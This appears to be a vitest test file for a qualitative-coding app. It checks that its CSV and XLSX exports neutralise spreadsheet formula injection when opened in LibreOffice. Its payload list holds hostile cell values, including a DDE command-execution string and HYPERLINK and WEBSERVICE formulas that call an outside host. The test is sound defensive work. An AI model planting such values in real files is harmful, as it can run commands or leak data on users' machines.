import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportCodebook, exportQuotes } from '../../../electron/host/export/export'
import { Store } from '../../../shared/core/store'
import { office } from '../../office-files'
import { code, id, reader, store } from './project'

if (office === null) console.log('skipped: formula cells in LibreOffice, as it is not at hand')

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'emic-formulas-'))
})
afterAll(() => rm(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 }))

/** What spreadsheets have been made to run: signs, blanks before them, full width, other programs called. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '=HYPERLINK("http://example.org/?"&A1;"look")',
  "=cmd|'/c calc'!A1",
  '=WEBSERVICE("http://example.org")',
  "'=1+1",
  '"=1+1"',
  'a";=1+1;"',
  'a\n=1+1',
]

const dangerous = Store.of({
  ...store.records(),
  codes: [
    ...[...store.all('codes')],
    ...payloads.map((text, i) =>
      code(100 + i, text.trim(), { short: text, definition: text, whenToUse: text, whenNotToUse: text }),
    ),
  ],
  codings: [...store.all('codings')].map((coding, i) => ({
    ...coding,
    comment: payloads[i % payloads.length] ?? '',
  })),
  coders: [...store.all('coders')].map((coder) =>
    coder.id === id(1, 2) ? { ...coder, name: '=1+1' } : coder,
  ),
})

/** Opens files in LibreOffice, formulas of CSV run, and gives them as it has them. */
async function opened(...names: readonly string[]): Promise<readonly string[]> {
  const profile = pathToFileURL(join(folder, 'profile')).href
  // Comma, quotation marks, UTF-8, from line 1, numbers found, formulas run.
  const csv = '--infilter=CSV:44,34,76,1,,0,false,true,true,false,false,0,true'
  const found: string[] = []
  for (const ending of ['csv', 'xlsx']) {
    const these = names.filter((name) => name.endsWith(ending)).map((name) => join(folder, name))
    if (these.length === 0) continue
    await promisify(execFile)(
      office ?? '',
      [
        `-env:UserInstallation=${profile}`,
        '--headless',
        ...(ending === 'csv' ? [csv] : []),
        '--convert-to',
        'fods',
        '--outdir',
        folder,
        ...these,
      ],
      { timeout: 240_000 },
    )
    for (const path of these) found.push(await readFile(path.replace(/\.\w+$/, '.fods'), 'utf8'))
  }
  return found
}

describe.skipIf(office === null)(
  'cells that look like formulas, in LibreOffice',
  { timeout: 540_000 },
  () => {
    it('are words in CSV and XLSX, while a plain table would have run them', async () => {
      const files = {
        'codebook.csv': await exportCodebook(dangerous, 'csv', reader),
        'quotes.csv': await exportQuotes(dangerous, 'csv', {}, reader),
        'wide.csv': await exportQuotes(dangerous, 'csv', {}, reader, { form: 'quotations' }),
        'maxqda.csv': await exportCodebook(dangerous, 'csv', reader, { form: 'maxqda' }),
        'codebook-x.xlsx': await exportCodebook(dangerous, 'xlsx', reader),
        'wide-x.xlsx': await exportQuotes(dangerous, 'xlsx', {}, reader, { form: 'quotations' }),
      }
      for (const [name, { bytes }] of Object.entries(files)) await writeFile(join(folder, name), bytes)
      await writeFile(join(folder, 'plain.csv'), `a\r\n${payloads[0]}\r\n`)
      const [plain, ...ours] = await opened('plain.csv', ...Object.keys(files))
      expect(plain).toContain('table:formula')
      expect(ours).toHaveLength(Object.keys(files).length)
      for (const sheet of ours) {
        expect(sheet).toContain('1+1')
        expect(sheet).not.toContain('table:formula')
      }
    })
  },
)
